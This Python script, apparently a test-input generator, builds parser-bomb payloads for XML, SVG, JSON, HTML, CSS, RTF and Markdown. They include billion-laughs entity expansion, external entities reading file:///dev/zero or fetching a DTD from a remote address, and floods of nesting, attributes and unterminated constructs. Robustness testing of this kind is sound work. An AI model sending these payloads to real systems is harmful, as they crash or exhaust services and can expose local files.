"""make-bomb-markup.py - entities, deep nesting and long repetition in texts with a grammar."""
import base64

from bomb import HEAD, kind, main

N = 100000
MANY = 1000000


def laughs(root, inside="", head=HEAD):
    """Billion laughs around `inside`."""
    names = "abcdefghij"
    entities = '<!ENTITY a "ha">' + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip(names, names[1:]))
    return f"{head}<!DOCTYPE x [{entities}]><{root}>{inside}&j;</{root.split()[0]}>".encode()


@kind("xml")
def xml_laughs():
    """billion laughs"""
    return laughs("x")


@kind("xml")
def xml_quadratic():
    """one entity of a megabyte, named ten thousand times"""
    return f'{HEAD}<!DOCTYPE x [<!ENTITY a "{"ha" * 500000}">]><x>{"&a;" * 10000}</x>'.encode()


@kind("xml")
def xml_external():
    """an entity that is a file of this machine"""
    return f'{HEAD}<!DOCTYPE x [<!ENTITY a SYSTEM "file:///dev/zero">]><x>&a;</x>'.encode()


@kind("xml")
def xml_parameter():
    """a document type from another host"""
    return f'{HEAD}<!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/x.dtd"> %a;]><x/>'.encode()


@kind("xml")
def xml_deep():
    """a hundred thousand elements, each in the next"""
    return (HEAD + "<a>" * N + "</a>" * N).encode()


@kind("xml")
def xml_attributes():
    """an element with a million attributes"""
    return (HEAD + "<a" + "".join(f' a{i}="1"' for i in range(MANY)) + "/>").encode()


@kind("xml")
def xml_spaces():
    """a hundred thousand name spaces, declared one in the other's element"""
    return (HEAD + "<a>" + "".join(f'<p{i}:a xmlns:p{i}="u{i}"/>' for i in range(N)) + "</a>").encode()


@kind("xml")
def xml_colliding():
    """an element with a hundred thousand name spaces"""
    return (HEAD + "<a" + "".join(f' xmlns:p{i}="u{i}"' for i in range(N)) + "/>").encode()


@kind("xml")
def xml_comments():
    """a million remarks"""
    return (HEAD + "<a>" + "<!--a-->" * MANY + "</a>").encode()


@kind("svg")
def svg_laughs():
    """billion laughs in a picture"""
    return laughs('svg xmlns="http://www.w3.org/2000/svg"')


@kind("svg")
def svg_uses():
    """ten groups, each using the one before ten times"""
    groups = '<g id="g0"><text>ha</text></g>' + "".join(
        f'<g id="g{i}">' + f'<use href="#g{i - 1}"/>' * 10 + "</g>" for i in range(1, 10))
    return f'{HEAD}<svg xmlns="http://www.w3.org/2000/svg"><defs>{groups}</defs><use href="#g9"/></svg>'.encode()


@kind("json")
def json_deep():
    """a hundred thousand lists, each in the next"""
    return b"[" * N + b"]" * N


@kind("json")
def json_keys():
    """an object with a million keys"""
    return ("{" + ",".join(f'"a{i}":1' for i in range(MANY)) + "}").encode()


@kind("json")
def json_numbers():
    """a number of ten million digits"""
    return b'{"a":' + b"9" * 10000000 + b"}"


@kind("html")
def html_deep():
    """a hundred thousand elements, each in the next"""
    return b"<!DOCTYPE html><html><body>" + b"<div>" * N + b"a" + b"</div>" * N + b"</body></html>"


@kind("html")
def html_open():
    """a million elements that nothing ends"""
    return b"<!DOCTYPE html><html><body>" + b"<b><i><a>" * (MANY // 3)


@kind("html")
def html_ends():
    """a million ends of what was never begun"""
    return b"<!DOCTYPE html><html><body>" + b"<p>" * 200 + b"</x>" * MANY


@kind("html")
def html_attributes():
    """an element with a million attributes"""
    return ("<!DOCTYPE html><html><body><a" + "".join(f" a{i}=1" for i in range(MANY)) + ">a</a>").encode()


@kind("html")
def html_comments():
    """a million beginnings of comments, none with an end"""
    return b"<!DOCTYPE html><html><body>" + b"<!--" * MANY


@kind("html")
def html_entities():
    """a million entities without an end"""
    return b"<!DOCTYPE html><html><body>" + b"&" * MANY + b"&amp" * MANY


@kind("html")
def html_line():
    """fifty megabytes without a line's end"""
    return b"<!DOCTYPE html><html><body>" + "通知".encode() * (50 * MANY // 6)


@kind("html")
def html_unclosed():
    """a million tags without an end"""
    return b"<!DOCTYPE html><html><body>" + b"<a href='" * MANY


@kind("html")
def html_data():
    """pages in addresses of pages, thirty deep"""
    page = b"<html><body>a</body></html>"
    for _ in range(30):
        page = b'<html><body><iframe src="data:text/html;base64,' + base64.b64encode(page) + b'"></iframe></body></html>'
    return b"<!DOCTYPE html>" + page


@kind("html")
def html_tables():
    """a thousand tables, each in the next"""
    return b"<!DOCTYPE html><html><body>" + b"<table><tr><td>" * 1000 + b"a" + b"</td></tr></table>" * 1000


def css(rules, body):
    return b"<!DOCTYPE html><html><head><style>" + rules + b"</style></head><body>" + body + b"</body></html>"


@kind("html")
def css_rules():
    """a hundred thousand rules and twenty thousand elements"""
    return css("".join(f".a{i} .b{i}{{display:none}}" for i in range(N)).encode(),
               "".join(f'<p class="a{i} b{i}">a</p>' for i in range(20000)).encode())


@kind("html")
def css_classes():
    """an element with a hundred thousand classes for a hundred thousand rules"""
    names = [f"a{i}" for i in range(N)]
    return css("".join(f".{n}{{color:red}}" for n in names).encode(), f'<p class="{" ".join(names)}">a</p>'.encode() * 10)


@kind("html")
def css_braces():
    """a million open braces"""
    return css(b"@media a{" * MANY, b"a")


@kind("html")
def css_variables():
    """thirty variables, each naming the one before twice"""
    return css(b":root{--a0:x;" + b"".join(b"--a%d:var(--a%d)var(--a%d);" % (i, i - 1, i - 1) for i in range(1, 31)) + b"}",
               b'<p style="color:var(--a30)">a</p>')


@kind("html")
def css_comments():
    """a million beginnings of comments"""
    return css(b"/*" * MANY, b"a")


@kind("rtf")
def rtf_deep():
    """a hundred thousand groups, each in the next"""
    return rb"{\rtf1\ansi " + b"{" * N + b"a" + b"}" * N + b"}"


@kind("rtf")
def rtf_words():
    """three million control words"""
    return rb"{\rtf1\ansi " + b"\\b\\i0\\par\n" * MANY + b"}"


@kind("rtf")
def rtf_binary():
    """binary data of two billion bytes claimed"""
    return rb"{\rtf1\ansi \bin2147483647 a}"


@kind("rtf")
def rtf_object():
    """an object of forty megabytes in hexadecimal digits"""
    return rb"{\rtf1\ansi {\object\objemb{\*\objdata " + b"00" * 20000000 + b"}}}"


@kind("rtf")
def rtf_fonts():
    """a hundred thousand fonts"""
    return rb"{\rtf1\ansi {\fonttbl" + b"".join(rb"{\f%d A;}" % i for i in range(N)) + b"}a}"


@kind("md")
def md_quotes():
    """a hundred thousand quotations, each in the next"""
    return b">" * N + b" a\n"


@kind("md")
def md_lists():
    """five thousand lists, each in the next"""
    return b"".join(b" " * (2 * i) + b"* a\n" for i in range(5000))


@kind("md")
def md_brackets():
    """a million open brackets"""
    return b"[" * MANY + b"a" + b"](" * MANY


@kind("md")
def md_stars():
    """a million stars"""
    return b"*a **a " * (MANY // 4)


@kind("md")
def md_ticks():
    """runs of ticks of five thousand lengths"""
    return b"".join(b"e" + b"`" * i for i in range(1, 5000))


@kind("md")
def md_references():
    """fifty thousand references to fifty thousand names"""
    return "".join(f"[a{i}]: /u\n" for i in range(50000)).encode() + "".join(f"[a{i}] " for i in range(50000)).encode()


main(__doc__)
